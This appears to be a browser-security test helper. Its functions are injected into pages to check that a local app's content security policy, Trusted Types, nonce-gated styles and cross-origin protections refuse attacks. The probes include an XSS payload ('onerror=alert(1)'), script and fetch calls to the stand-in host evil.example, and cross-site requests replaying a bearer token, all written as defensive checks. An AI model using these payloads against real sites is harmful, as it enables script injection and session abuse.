/**
 * What is tried inside pages of a browser: in the twin's own as code that was smuggled in, and in a page of another
 * site. Each function is sent to the page whole.
 */
// eslint-disable-next-line @typescript-eslint/ban-ts-comment -- the reason is there
// @ts-nocheck -- runs inside a page, whose types are not part of the tests' program

export function keptInPage() {
  return {
    cookie: document.cookie,
    local: localStorage.length,
    session: Object.keys(sessionStorage),
  };
}

/** From a timer: the debugger's own evaluation is above the page's policy. */
export function tryCode() {
  const attempt = (act) => {
    try {
      act();
      return 'done';
    } catch (thrown) {
      return thrown.name;
    }
  };
  return new Promise((resolve) => {
    setTimeout(() =>
      resolve({
        eval: attempt(() => (0, eval)('1')),
        function: attempt(() => new Function('return 1')()),
        markup: attempt(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
        script: attempt(() => (document.createElement('script').src = 'https://evil.example/x.js')),
        policy: attempt(() => trustedTypes.createPolicy('any', {})),
      }),
    );
  });
}

export async function tryToReach() {
  const get = (url) =>
    fetch(url, { mode: 'no-cors' }).then(
      () => 'reached',
      () => 'refused',
    );
  const image = await new Promise((resolve) => {
    const made = new Image();
    made.onload = () => resolve('reached');
    made.onerror = () => resolve('refused');
    made.src = 'http://127.0.0.1:1/x.png';
  });
  return [await get('http://127.0.0.1:1/'), await get('https://evil.example/'), image, await get('/health')];
}

/** The colour of a word whose style was made with the page's nonce, with none, and with a guess. */
export function tryStyles() {
  const colourWith = (nonce) => {
    const style = document.createElement('style');
    if (nonce) style.nonce = nonce;
    style.textContent = '.probe { color: rgb(1, 2, 3) }';
    document.head.append(style);
    const probe = document.createElement('p');
    probe.className = 'probe';
    document.body.append(probe);
    const { color } = getComputedStyle(probe);
    probe.remove();
    style.remove();
    return color;
  };
  const { nonce } = document.querySelector('meta[property="csp-nonce"]');
  return [colourWith(nonce), colourWith(null), colourWith('guess')];
}

/** From a page of another site, with keys that are right. */
export async function tryFromElsewhere({ host, token, link }) {
  const ask = (path, init) =>
    fetch(`http://${host}${path}`, init).then(
      (answer) => `${answer.type} ${answer.status}`,
      () => 'failed',
    );
  const socket = (protocols) =>
    new Promise((resolve) => {
      const made = new WebSocket(`ws://${host}/desk`, protocols);
      made.onopen = () => resolve('open');
      made.onclose = () => resolve('closed');
    });
  const frame = document.createElement('iframe');
  frame.src = `http://${host}/`;
  await new Promise((resolve) => {
    frame.onload = resolve;
    document.body.append(frame);
  });
  const body = JSON.stringify({ link });
  return {
    health: await ask('/health', {}),
    bearer: await ask('/health', { headers: { authorization: `Bearer ${token}` } }),
    trade: await ask('/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
    // a request that needs no leave is sent, but not listened to: what it did is seen by the link still being good
    form: await ask('/session', { method: 'POST', mode: 'no-cors', body }),
    socket: await socket(['parley', `parley.token.${token}`]),
    framed: frame.contentDocument === null ? 'refused' : 'readable',
  };
}
